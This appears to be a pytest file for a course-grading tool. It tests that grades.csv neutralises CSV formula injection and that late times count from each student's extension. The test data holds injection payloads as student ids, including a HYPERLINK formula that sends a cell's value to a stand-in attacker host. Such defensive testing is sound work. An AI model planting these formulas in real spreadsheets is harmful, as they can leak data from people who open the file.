"""grades.csv is safe to open in a spreadsheet (tools/instructor/grades.py): a text cell that a
spreadsheet would run as a formula (starting with "=", "+", "-", "@", a tab or a carriage
return: OWASP's CSV injection) is written with a "'" before it, and numbers stay numbers.
Issue 39, case 8: student ids such as =HYPERLINK(...), +2+3, -2+3, @SUM(1+1) and a
leading tab were written raw. (Collect refuses such ids: tests/test_collect.py; here they
are put into the gradebook directly, as no collect would, and a status quotes a
submitted notebook's name.) And the late column counts from a student's own due date."""

import contextlib
import csv
import datetime
import io
import zoneinfo

import pytest
from openpyxl import Workbook

from tools.course.late import Policy, decide
from tools.instructor import gradebook
from tools.instructor.build import build_course
from tools.instructor.grades import cell, export, late_column
from tools.instructor.release import release

FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+2+3", "-2+3", "@SUM(1+1)",
            "\tleading-tab", "\rcarriage"]


def as_a_spreadsheet_reads_it(path):
    """The cells of a CSV as a spreadsheet imports them: a number where the text is one,
    else the text, into an openpyxl sheet (which stores a text starting with "=" as a
    formula, as a spreadsheet does)."""
    sheet = Workbook().active
    with open(path, newline="") as f:
        for row in csv.reader(f):
            values = []
            for text in row:
                try:
                    values.append(float(text))
                except ValueError:
                    values.append(text)
            sheet.append(values)
    return sheet


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    root = build_course(tmp_path_factory.mktemp("grades") / "course", layout="unit")
    with contextlib.redirect_stdout(io.StringIO()):
        release(root, ["unit1"])
    return root


def test_no_cell_of_grades_csv_is_a_formula_and_numbers_stay_numbers(course):
    statuses = {}
    with gradebook.connect(course) as gb:
        for student in [*FORMULAS, "honest"]:
            gb.update_or_create_student(student)
            gb.add_submission("unit1", student)
            statuses["unit1", student] = (
                f"graded; {FORMULAS[0]}.ipynb graded as 01_layernorm_forward.ipynb", "0")
    gradebook.set_graded(course, statuses)
    out = course / "grades.csv"
    with contextlib.redirect_stdout(io.StringIO()):
        export(course, out)
    sheet = as_a_spreadsheet_reads_it(out)
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    rows = list(csv.DictReader(out.open(newline="")))
    assert sorted(r["student_id"] for r in rows) == sorted(
        ["'" + f for f in FORMULAS] + ["honest"])
    assert all(r["status"].startswith(f"graded; {FORMULAS[0]}.ipynb graded as ")
               for r in rows)  # (a formula within a text is no formula)
    header = next(sheet.iter_rows(max_row=1))
    score = [c.column for c in header if c.value == "score"][0]
    assert all(sheet.cell(r, score).data_type == "n" for r in range(2, sheet.max_row + 1))


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("graded", "graded"), ("", ""), (-2.5, -2.5), (3, 3), (0.0, 0.0)])
def test_a_cell_is_prefixed_only_where_a_spreadsheet_would_run_it(value, written):
    """Own case (rule 7): the prefix goes on text alone; a number, negative included,
    stays a number."""
    assert cell(value) == written and type(cell(value)) is type(written)


BERLIN = zoneinfo.ZoneInfo("Europe/Berlin")
DUE = datetime.datetime(2026, 10, 5, 23, 59, tzinfo=BERLIN)
POLICY = Policy(zone=BERLIN, extensions={"unit1": {"ada": datetime.datetime(
    2026, 10, 7, 23, 59, tzinfo=BERLIN)}})


@pytest.mark.parametrize("student,when,marker,late", [
    ("bob", datetime.datetime(2026, 10, 5, 20, 0), False, ""),  # on time
    ("bob", datetime.datetime(2026, 10, 6, 0, 29, 30), False, "2 h 31 min late"),
    ("ada", datetime.datetime(2026, 10, 6, 20, 0), False,  # late by the course's date alone
     "on time (extension to 2026-10-07 23:59 CEST)"),
    ("ada", datetime.datetime(2026, 10, 7, 22, 30), False,
     "31 min late (extension to 2026-10-07 23:59 CEST)"),
    ("ada", None, True, "late by Canvas's _LATE marker; no time (extension to 2026-10-07 "
                        "23:59 CEST)"),
    ("bob", None, False, "time unknown"),
])
def test_the_late_column_counts_from_the_students_own_due_date(student, when, marker, late):
    """The late column and the penalty agree: both count from the student's extension
    where they have one (issue 40's review: ada was "22 h 1 min late" beside "on time
    (extension ...)"). when: naive UTC, as nbgrader stores it."""
    aware = when and when.replace(tzinfo=datetime.timezone.utc)
    decision = decide(POLICY, "unit1", student, DUE, aware, marker, 5.5, 0)
    provenance = {"late_marker": True} if marker else {}
    assert late_column(decision, provenance, BERLIN) == late
